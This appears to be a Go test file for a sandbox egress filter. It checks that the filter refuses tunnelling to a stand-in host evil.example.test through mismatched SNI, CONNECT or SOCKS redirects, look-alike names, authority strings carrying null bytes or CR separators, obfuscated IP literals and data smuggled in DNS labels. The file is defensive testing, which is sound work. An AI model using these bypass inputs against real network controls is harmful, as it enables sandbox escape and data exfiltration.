package egress

import (
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

// nameRows: whom a connection is for, said in several places and ways.
var nameRows = []row{
	{1, "CONNECT to an allowed host then another", connectElsewhere, true},
	{2, "TLS whose SNI is another name, or hidden", otherSNI, false},
	{3, "TLS without SNI", func(t *testing.T, w *world, f string) {
		w.refuses(t, "fetch", "addr=api.example.test:443", "sni=-", "host=api.example.test", "family="+f)
		w.refuses(t, "fetch", "addr=inject.example.test:443", "sni=-", "host=inject.example.test", "family="+f)
	}, false},
	{4, "through a relay inside the sandbox", func(t *testing.T, w *world, f string) {
		w.passes(t, "relay", "addr=api.example.test:443", "sni=api.example.test", "host=api.example.test", "family="+f)
		w.refuses(t, "relay", "addr=evil.example.test:443", "sni=evil.example.test", "host=evil.example.test", "family="+f)
		w.refuses(t, "relay", "addr=api.example.test:443", "sni=evil.example.test", "host=evil.example.test", "family="+f)
	}, false},
	{7, "names that look like an allowed one", lookAlikes, true},
	{8, "separators and encodings in the authority", strangeAuthorities, true},
	{9, "addresses instead of names", literals, true},
	{10, "an allowed name on another port", func(t *testing.T, w *world, f string) {
		w.refuses(t, "fetch", "addr=api.example.test:8443", "sni=api.example.test", "host=api.example.test:8443", "family="+f)
		w.refuses(t, "fetch", "via=connect", "addr=api.example.test:8443", "sni=api.example.test", "host=api.example.test")
		w.refuses(t, "fetch", "via=socks", "addr=api.example.test:8443", "sni=api.example.test", "host=api.example.test")
	}, false},
	{13, "an allowed name that leads to a private address", func(t *testing.T, w *world, f string) {
		w.refuses(t, "fetch", "addr=private.example.test:443", "sni=private.example.test", "host=private.example.test", "family="+f)
	}, false},
	{14, "a second name on the same address", func(t *testing.T, w *world, f string) {
		w.refuses(t, "fetch", "addr=shadow.example.test:443", "sni=shadow.example.test", "host=shadow.example.test", "family="+f)
		w.refuses(t, "fetch", "addr=api.example.test:443", "sni=shadow.example.test", "host=shadow.example.test", "family="+f)
		w.refusesInside(t, "shadow.example.test", "fetch", "addr=api.example.test:80", "host=shadow.example.test", "family="+f)
		w.refusesInside(t, "shadow.example.test", "fetch", "addr=inject.example.test:443", "sni=inject.example.test", "host=shadow.example.test", "family="+f)
	}, false},
	{15, "data in labels under a name that is not allowed", func(t *testing.T, w *world, f string) {
		w.refuses(t, "lookup", "name=stolen-data."+w.tier+".evil.example.test", "family="+f)
		w.refuses(t, "lookup", "name=stolen-data."+w.tier+".api.example.test", "family="+f)
		if w.in.wasAsked("stolen-data") {
			t.Error("a label that the sandbox chose reached the DNS server")
		}
	}, false},
	{16, "data in labels under an allowed wildcard", func(t *testing.T, w *world, f string) {
		o := w.try(t, "lookup", "name=wild-data-"+w.tier+".wild.example.test", "family="+f)
		if o.Error != "" || !strings.HasPrefix(o.Body, map[string]string{"4": "198.1", "6": "fd62:"}[f]) {
			t.Errorf("the name leads to %s; the answer must be an address of the gate's own", o)
		}
		if w.in.wasAsked("wild-data") {
			t.Error("a label that the sandbox chose reached the DNS server")
		}
	}, false},
}

func connectElsewhere(t *testing.T, w *world, _ string) {
	for _, via := range []string{"via=connect", "via=socks"} {
		w.refuses(t, "fetch", via, "addr=api.example.test:443", "sni=evil.example.test", "host=evil.example.test")
		w.refuses(t, "fetch", via, "addr=inject.example.test:443", "sni=evil.example.test", "host=evil.example.test")
		w.refusesInside(t, "evil.example.test", "fetch", via, "addr=inject.example.test:443", "sni=inject.example.test", "host=evil.example.test")
		w.refusesInside(t, "evil.example.test", "twice", via, "addr=inject.example.test:443", "sni=inject.example.test",
			"host=inject.example.test", "host2=evil.example.test")
		w.refuses(t, "fetch", via, "addr=evil.example.test:443", "sni=api.example.test", "host=api.example.test")
	}
	w.refusesInside(t, "evil.example.test", "twice", "addr=api.example.test:80", "host=api.example.test", "host2=evil.example.test")
	// An explicit proxy's plain requests: the second names another host than the first.
	w.refusesInside(t, "evil.example.test", "twice", "addr="+connectDoor, "path=http://api.example.test/", "host=api.example.test",
		"path2=http://evil.example.test/", "host2=evil.example.test")
	w.refusesInside(t, "evil.example.test", "twice", "addr="+connectDoor, "path=http://api.example.test/", "host=api.example.test",
		"path2=http://api.example.test/", "host2=evil.example.test")
}

func otherSNI(t *testing.T, w *world, f string) {
	for _, host := range []string{"api", "inject", "other-inject"} {
		w.refuses(t, "fetch", "addr="+host+".example.test:443", "sni=evil.example.test", "verify=-", "host=evil.example.test", "family="+f)
	}
	w.refuses(t, "fetch", "addr=api.example.test:443", "sni=inject.example.test", "verify=-", "host=inject.example.test", "family="+f)
	w.refuses(t, "fetch", "addr=api.example.test:443", "ech=api.example.test", "sni=evil.example.test", "verify=-", "host=evil.example.test", "family="+f)
}

func lookAlikes(t *testing.T, w *world, _ string) {
	for _, name := range []string{"evil-api.example.test", "api.example.test.evil.example.test", "xapi.example.test", "api.example.tes",
		"xn--pi-8ka.example.test", "wild.example.test", "example.test", "denied.wild.example.test", "API.EVIL.example.test"} {
		w.refuses(t, "lookup", "name="+name)
		w.refuses(t, "fetch", "via=connect", "addr="+name+":443", "sni="+name, "host="+name)
	}
	// Other spellings of the allowed one are the allowed one, and what is dialled is its one form.
	for _, name := range []string{"API.Example.Test", "api.example.test."} {
		if o := w.try(t, "lookup", "name="+name, "family=4"); o.Error != "" {
			t.Errorf("%s: %s", name, o)
		}
		w.passes(t, "fetch", "via=connect", "addr="+name+":443", "sni=api.example.test", "host=api.example.test")
	}
	w.passes(t, "fetch", "addr=api.example.test:80", "host=API.example.test.")
}

func strangeAuthorities(t *testing.T, w *world, _ string) {
	for _, a := range []string{"api.example.test\x00.evil.example.test:443", "evil.example.test\rapi.example.test:443", "api.example.test@evil.example.test:443",
		"evil.example.test#api.example.test:443", "evil.example.test%2eapi.example.test:443", "[api.example.test]:443", "api.example.test:443:80",
		"api..example.test:443", "evil.example.test/api.example.test:443", "evil.example.test\\.api.example.test:443", "api.example.test :443", "api.example.test:0443x"} {
		raw := hex.EncodeToString([]byte("CONNECT " + a + " HTTP/1.1\r\nHost: " + a + "\r\n\r\n"))
		w.refuses(t, "send", "addr="+connectDoor, "hex="+raw)
		raw = hex.EncodeToString([]byte("GET / HTTP/1.1\r\nHost: " + a + "\r\n\r\n"))
		before := w.in.heard("evil.example.test")
		if o := w.try(t, "send", "addr=api.example.test:80", "hex="+raw); o.Error == "" && o.Status < 400 {
			t.Errorf("Host %q: %s", a, o)
		}
		if w.in.heard("evil.example.test") != before {
			t.Errorf("Host %q reached evil.example.test", a)
		}
	}
}

func literals(t *testing.T, w *world, _ string) {
	for _, a := range []string{goodAddr, "2135750913", "0177.0115.01.01", "0x7f.0x4d.1.1", "0x7f4d0101", "127.77.257", "127.19713", "127.77.1.1.", "[::ffff:127.77.1.1]"} {
		w.refuses(t, "fetch", "via=connect", "addr="+a+":443", "sni=api.example.test", "host=api.example.test")
		if !strings.HasPrefix(a, "[") {
			w.refuses(t, "fetch", "via=socks", "addr="+a+":443", "sni=api.example.test", "host=api.example.test")
		}
		raw := hex.EncodeToString(fmt.Appendf(nil, "GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n", a, a))
		w.refuses(t, "send", "addr="+connectDoor, "hex="+raw)
	}
	// An address outside, with the allowed name in TLS and HTTP.
	w.refuses(t, "fetch", "addr=203.0.113.7:443", "sni=api.example.test", "host=api.example.test")
	w.refuses(t, "fetch", "addr=203.0.113.7:80", "host=api.example.test")
	w.refuses(t, "fetch", "addr=[2001:db8::7]:443", "sni=api.example.test", "host=api.example.test")
}
